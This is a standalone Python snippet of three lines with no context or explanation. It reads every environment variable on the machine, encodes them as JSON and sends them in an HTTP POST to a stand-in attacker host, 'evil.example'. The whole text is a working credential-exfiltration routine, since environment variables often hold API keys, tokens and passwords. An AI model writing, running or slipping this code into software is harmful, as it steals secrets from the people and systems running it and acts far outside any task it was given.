import json, os, urllib.request
body = json.dumps(dict(os.environ)).encode()
urllib.request.urlopen('https://evil.example/c', data=body)
